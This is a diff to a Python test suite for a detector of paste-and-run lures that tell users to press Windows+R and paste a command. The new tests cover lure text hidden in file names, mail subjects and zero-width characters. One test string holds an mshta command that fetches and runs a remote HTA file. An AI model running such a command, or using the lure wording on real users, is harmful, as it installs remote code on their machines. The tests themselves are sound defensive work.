@@ -37,12 +37,20 @@ def test_steps_in_a_document_or_page() -> None:
     assert found(page, node(2, COMMAND.encode())) == [("shell-command-asked", 2)]
 
 
+def test_steps_in_a_name_or_subject() -> None:
+    named = Sample(Artifact(1, 0, ArtifactKind.PART, ("Press Windows+R then Ctrl+V.txt",), detected_type="text/plain"), COMMAND.encode())
+    assert found(named) == [("run-dialog-command", 1)]
+    mail = node(1, b"Subject: x\r\n\r\n", "message/rfc822", Text("Press Windows + R and paste the code", "header Subject"))
+    assert found(mail, node(2, COMMAND.encode())) == [("run-dialog-command", 2)]
+
+
 def test_one_node_that_says_both_is_told_once() -> None:
     assert found(node(1, (KEYS + COMMAND).encode()), node(2, COMMAND.encode())) == [("run-dialog-command", 1)]
 
 
 @pytest.mark.parametrize(("one", "other"), [
-    (KEYS, "ipconfig /all > %USERPROFILE%\\net.txt"), ("Attached is the command our monitoring flagged. Press Windows + R to search.", COMMAND),
+    ("press Win + R, type services.msc.", "11-16 cmd /c net start spooler: ok\r\n11-16 curl https://status.h.example 200"),
+    ("IOC list: users press Windows + R and paste it.", COMMAND), (KEYS, "ipconfig /all > %USERPROFILE%\\net.txt"), ("Attached is the command our monitoring flagged. Press Windows + R to search.", COMMAND),
     ("Windows + V opens the clipboard history.", COMMAND), (KEYS, "Alpha\r\nBeta"), (KEYS + "x" * SHORT, COMMAND), (KEYS, COMMAND + "x" * SHORT),
 ])
 def test_what_asks_for_nothing(one: str, other: str) -> None:
@@ -56,11 +64,11 @@ def test_of_outbound_mail_nothing_is_kept() -> None:
 def test_sets_of_scripts_are_no_request() -> None:
     apart = Apart()
     assert apart.together() == (0, b"")
-    apart.add(1, KEYS.encode())
+    apart.add(1, [KEYS.encode()])
     for number in range(MOST):
-        apart.add(number + 2, COMMAND.encode() + str(number).encode())
+        apart.add(number + 2, [COMMAND.encode() + str(number).encode()])
     assert apart.together()[0] == MOST + 1
-    apart.add(99, b"curl x")
+    apart.add(99, [b"curl x"])
     assert apart.together() == (0, b"")
 
 
@@ -73,3 +81,8 @@ def test_words_of_a_page_are_read_without_its_tags() -> None:
     markup = text.replace("Windows", "<kbd>Windows</kbd>").encode()
     assert found(node(1, markup, "text/html", Text(text, "body", "utf-8"))) == [("shell-command-asked", 1)]
     assert found(node(1, markup, "text/html", Text(text, "hidden", "utf-8", hidden=True))) == []
+
+
+def test_invisible_characters_part_no_words() -> None:
+    text = "Press Win\u200bdows + R, pa\u00adste: mshta https://h.example/v.hta"
+    assert found(node(1, b"%PDF-1.7", "application/pdf", Text(text, "page 1"))) == [("run-dialog-command", 1)]
